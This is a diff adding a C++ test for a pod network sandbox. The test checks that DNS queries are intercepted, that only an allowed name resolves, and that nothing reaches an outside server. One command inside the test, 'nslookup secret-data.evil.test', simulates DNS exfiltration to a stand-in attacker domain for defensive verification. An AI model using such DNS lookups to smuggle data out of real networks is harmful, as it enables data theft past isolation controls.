@@ -32,7 +32,8 @@ struct Pod {
 };
 
 void make_pod(Pod &p) {
-    test::own_network({"8.8.8.8"});
+    // 10.77.0.53: where the pod's resolv.conf sends DNS (on the outside).
+    test::own_network({"8.8.8.8", "10.77.0.53"});
     test::serve(p.srv, "8.8.8.8", "PUB:");
     p.port = std::to_string(p.srv.port);
     test::make_pod_netns(p.ns);
@@ -315,4 +316,30 @@ Test(podnet, attack_a_table_of_another_root_is_not_replaced) {
     auto q = test::run(plain);
     cleanup_all();
     cr_assert(contains(q.out, "tcp=1") && !contains(q.out, "PUB:hi"), "%s", q.out.c_str());
+}
+
+// DNS under https: the pod's resolv.conf names a server outside, and the
+// namespace's firewall sends every query to the helper's stub instead, which
+// answers the allowed name (with the address the helper resolves) and
+// NXDOMAIN for any other; not one datagram reaches the outside server.
+Test(podnet, attack_dns_answers_allowed_names_only_and_nothing_leaves) {
+    Pod p;
+    make_pod(p);
+    int outside = test::bind_udp("10.77.0.53", 53);
+    Env e = in_pod(p, "poddns",
+                   "nslookup a.test; echo a=$?; nslookup secret-data.evil.test; echo e=$?", "");
+    allow_a_test(e, p);
+    test::write_file(e.b.rootfs + "/etc/resolv.conf", "nameserver 10.77.0.53\n");
+    auto o = test::run(e);
+    long leaked = test::udp_datagrams(outside);
+    cleanup_all();
+    std::string all = o.out + o.err;
+    cr_assert_eq(o.status, 0, "%s", all.c_str());
+    size_t a = all.find("a=");
+    cr_assert(a != std::string::npos && contains(all.substr(0, a), "8.8.8.8") &&
+                  contains(all, "a=0"),
+              "the allowed name: %s", all.c_str());
+    cr_assert(!contains(all, "e=0") && contains(all.substr(a), "NXDOMAIN"), "the other: %s",
+              all.c_str());
+    cr_assert_eq(leaked, 0, "%ld datagrams reached the outside server: %s", leaked, all.c_str());
 }
